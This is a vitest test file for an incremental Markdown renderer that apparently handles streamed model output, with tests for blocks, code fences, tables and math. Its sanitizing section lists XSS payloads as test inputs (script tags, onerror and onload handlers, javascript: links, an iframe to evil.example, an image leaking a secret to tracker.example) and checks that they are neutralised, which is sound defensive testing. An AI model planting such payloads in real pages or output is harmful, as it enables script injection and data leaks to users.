import { describe, expect, it } from 'vitest';
import { IncrementalMarkdown } from './incremental';
import { renderMarkdown } from './render';

function html(md: IncrementalMarkdown): string {
  return md.blocks.map((block) => block.html).join('') + md.tailHtml;
}

function feed(text: string, step = 3): IncrementalMarkdown {
  const md = new IncrementalMarkdown();
  for (let i = step; i < text.length + step; i += step) md.update(text.slice(0, i));
  return md;
}

const sample = [
  '# Title',
  '',
  'Some *intro* text with `code` and a [link](https://example.com).',
  '',
  '- one',
  '- two',
  '',
  '- three (same list, loose)',
  '',
  '1. first',
  '   continued paragraph',
  '',
  '   indented paragraph of item 1',
  '2. second',
  '',
  '```python',
  'def f():',
  '',
  '    return 1',
  '```',
  'Right after the fence.',
  '',
  '| a | b |',
  '|---|---|',
  '| 1 | 2 |',
  '',
  '> quote',
  '',
  'The end.',
].join('\n');

function textOf(markup: string): string {
  const element = document.createElement('div');
  element.innerHTML = markup;
  return (element.textContent ?? '').replace(/\s+/g, ' ').trim();
}

describe('IncrementalMarkdown', () => {
  it('renders the same text as a one-shot render', () => {
    const md = feed(sample);
    expect(textOf(html(md))).toBe(textOf(renderMarkdown(sample).html));
    expect(md.blocks.length).toBeGreaterThan(4);
  });

  it('renders each finished block once', () => {
    const md = feed(sample, 1);
    const blocks = md.blocks.length;
    expect(md.blockRenders).toBe(blocks);
    const before = md.blocks.slice();
    md.update(`${sample} More words`);
    md.update(`${sample} More words and more`);
    expect(md.blockRenders).toBe(blocks);
    expect(md.blocks.slice(0, before.length)).toEqual(before);
  });

  it('keeps fenced code with blank lines in one block', () => {
    const md = feed('Intro\n\n```js\nconst a = 1;\n\n\nconst b = 2;\n```\n\nAfter\n', 2);
    const code = md.blocks.find((block) => block.html.includes('code-block'));
    expect(code?.src).toContain('const b = 2;');
    expect(html(md).match(/class="code-block"/g)?.length).toBe(1);
  });

  it('does not split list items or their indented continuation', () => {
    const md = feed('1. a\n\n   more of a\n2. b\n\nAfter\n');
    expect(html(md).match(/<ol/g)?.length).toBe(1);
    expect(html(md)).not.toContain('<pre');
  });

  it('renders GFM tables and highlighted code with a copy button', () => {
    const md = feed('| x | y |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("hi")\n```\n');
    const out = html(md);
    expect(out).toContain('<table>');
    expect(out).toContain('<td>1</td>');
    expect(out).toContain('hljs-built_in');
    expect(out).toContain('class="copy-code"');
  });

  it('restarts when the text is rewritten', () => {
    const md = feed('First paragraph\n\nSecond\n');
    md.update('Other');
    expect(md.blocks).toEqual([]);
    expect(md.tailHtml).toContain('Other');
  });

  it('an unclosed fence renders as code while streaming', () => {
    const md = feed('```bash\nls -la\n');
    expect(md.tailHtml).toContain('code-block');
  });
});

describe('sanitizing model output', () => {
  const attacks = [
    '<img src=x onerror="alert(1)">',
    '<script>alert(1)</script>',
    '<a href="javascript:alert(1)">x</a>',
    '[click](javascript:alert(1))',
    '![pic](https://tracker.example/p.png?secret=1)',
    '<iframe src="https://evil.example"></iframe>',
    '<svg onload="alert(1)"></svg>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '```html\n<script>alert(1)</script>\n```',
    '<details open ontoggle="alert(1)">x</details>',
  ];

  for (const attack of attacks) {
    it(`neutralizes ${attack.slice(0, 40)}`, () => {
      for (const md of [feed(`Hello\n\n${attack}\n\nbye`), feed(attack)]) {
        const container = document.createElement('div');
        container.innerHTML = html(md);
        expect(container.querySelector('script, iframe, img, svg[onload], [onerror], [onload], [ontoggle]')).toBeNull();
        for (const link of container.querySelectorAll('a')) {
          expect(link.getAttribute('href') ?? '').not.toMatch(/^\s*javascript:/i);
        }
        expect(container.innerHTML).not.toMatch(/<script/i);
      }
    });
  }

  it('shows raw HTML as text', () => {
    const container = document.createElement('div');
    container.innerHTML = renderMarkdown('<b>bold?</b> <img src=x onerror=alert(1)>').html;
    expect(container.querySelector('b')).toBeNull();
    expect(container.textContent).toContain('<b>bold?</b>');
  });

  it('links open outside the app, without referrer', () => {
    const out = renderMarkdown('[a](https://example.com)').html;
    expect(out).toContain('target="_blank"');
    expect(out).toContain('noopener');
  });
});

describe('math', () => {
  it('marks math as pending until KaTeX loads, then renders it', async () => {
    const md = feed('Euler: $e^{i\\pi} + 1 = 0$\n\n$$\n\\int_0^1 x\\,dx\n$$\n\nDone\n');
    const { loadKatex } = await import('./math');
    await loadKatex();
    if (md.mathPending) md.refreshMath();
    expect(md.mathPending).toBe(false);
    const out = html(md);
    expect(out).toContain('class="katex"');
    expect(out).toContain('katex-display');
  });

  it('does not treat prices as math', () => {
    expect(renderMarkdown('It costs $5 and $10.').html).not.toContain('katex');
    expect(renderMarkdown('It costs $5 and $10.').html).not.toContain('math-source');
  });
});
